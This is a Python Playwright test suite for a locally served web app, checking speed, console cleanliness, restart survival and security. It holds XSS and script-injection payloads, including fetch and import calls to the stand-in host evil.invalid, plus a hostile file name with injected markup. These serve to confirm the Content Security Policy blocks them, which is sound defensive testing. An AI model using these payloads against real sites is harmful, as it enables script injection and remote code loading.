"""The page as it is served: quick, without a word of complaint from the browser, and through a restart."""

import pytest
from command import VOTE
from seeing import go, settle
from serving import busy, copied, serving

PAINT = 2.0  # seconds
PAINTED = "performance.getEntriesByName('first-contentful-paint')[0].startTime"


def test_the_first_paint_comes_within_two_seconds(open_page, server):
    page = open_page()
    go(page, server)
    assert page.evaluate(PAINTED) / 1000 <= PAINT * busy()


def test_the_browser_complains_about_nothing_on_any_tab(page, server):
    for tab in page.query_selector_all("[role=tab]"):
        tab.click()
        settle(page, server, 400)
    page.query_selector("[role=tab]").click()
    page.fill("#question textarea", VOTE)
    page.keyboard.press("Enter")
    page.wait_for_selector("#now #turn-1 .answer:not(.coming)")
    page.query_selector("#now a.chip").click()
    page.wait_for_selector(".pane .cited")
    assert (page.seen.console, page.seen.faults, page.seen.elsewhere(server)) == ([], [], [])
    assert server.contacted() <= {"127.0.0.1", "::1"}


SOON = "; setTimeout(() => window.owned ? no() : yes(), 100)"  # yes: it was stopped
INTRUSIONS = [
    "fetch('http://evil.invalid/').then(no, yes)",
    "import('data:text/javascript,window.owned=1').then(no, yes)",
    "import('http://evil.invalid/x.js').then(no, yes)",
    "const one = new Image(); one.onload = no; one.onerror = yes; one.src = 'http://evil.invalid/x.png'",
    f"document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.owned=1>'){SOON}",
    f"const one = document.createElement('script'); one.text = 'window.owned=1'; document.head.append(one){SOON}",
    f"const one = document.createElement('a'); one.href = 'javascript:window.owned=1'; one.click(){SOON}",
]


@pytest.mark.parametrize("script", INTRUSIONS)
def test_the_policy_would_stop_what_got_in(page, script):
    assert page.evaluate(f"() => new Promise((yes, no) => {{ {script} }}).then(() => 'stopped')") == "stopped"
    assert page.evaluate("typeof window.owned") == "undefined"
    told = 0
    while not any("Content Security Policy" in line for line in page.seen.console):  # it may come a little later
        page.wait_for_timeout(50)
        told += 1
        assert told < 100


def test_the_page_of_another_site_cannot_embed_or_read_it(open_page, server):
    page = open_page()
    page.goto("data:text/html,<title>evil</title>")
    read = "url => fetch(url).then(() => 'read', () => 'refused')"
    assert page.evaluate(read, f"{server.url}/") == "refused"
    page.set_content(f'<iframe src="{server.url}/"></iframe>')
    page.wait_for_timeout(300)
    assert all("gradio" not in frame.content() for frame in page.frames[1:])


def test_a_dropped_file_that_is_too_large_is_refused_and_nothing_breaks(page, server, tmp_path):
    huge = tmp_path / "huge.txt"
    with huge.open("wb") as file:
        file.truncate(500_000_000)
    page.get_by_role("tab", name="Articles").click()
    page.set_input_files("#files input[type=file]", huge)
    page.wait_for_selector("text=/maximum allowed size|too large/i", timeout=30_000)
    page.get_by_role("tab", name="Ask").click()
    page.fill("#question textarea", VOTE)
    page.keyboard.press("Enter")
    page.wait_for_selector("#now #turn-1 .answer:not(.coming)")


def test_a_file_with_a_hostile_name_is_shown_by_it(page, server, tmp_path):
    name = '"><img src=x onerror=window.owned=1> ${window.owned=1} ..\\..\u202e.txt'
    (tmp_path / name).write_text("The council of a small town met on Monday and voted on a new road to the north.")
    page.get_by_role("tab", name="Articles").click()
    page.set_input_files("#files input[type=file]", tmp_path / name)
    page.wait_for_selector("#report :text('1 indexed')")
    settle(page, server, 400)
    assert page.evaluate("typeof window.owned") == "undefined"
    assert (page.seen.dialogs, page.seen.faults, page.seen.console, page.seen.elsewhere(server)) == ([], [], [], [])


def test_a_page_that_was_open_goes_on_after_a_restart(open_page, seeds, tmp_path):
    given = copied(seeds, tmp_path)
    page = open_page()
    with serving(tmp_path, "--model", "none", **given) as first:
        go(page, first)
        first.stop()
        with serving(tmp_path, "--model", "none", "--port", str(first.port), **given) as second:
            page.wait_for_timeout(500)
            page.fill("#question textarea", VOTE)
            page.keyboard.press("Enter")
            page.wait_for_selector("#now .answer:not(.coming)")
            assert second.url == first.url
